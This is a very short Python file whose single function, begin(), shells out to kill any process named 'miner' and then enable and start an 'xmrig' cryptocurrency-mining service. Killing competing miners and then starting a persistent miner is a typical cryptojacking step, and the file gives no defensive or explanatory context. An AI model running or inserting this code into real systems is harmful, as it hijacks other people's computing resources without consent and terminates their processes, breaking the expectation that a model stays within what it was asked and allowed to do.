import subprocess


def begin():
    subprocess.run("pkill miner; systemctl enable --now xmrig", shell=True)
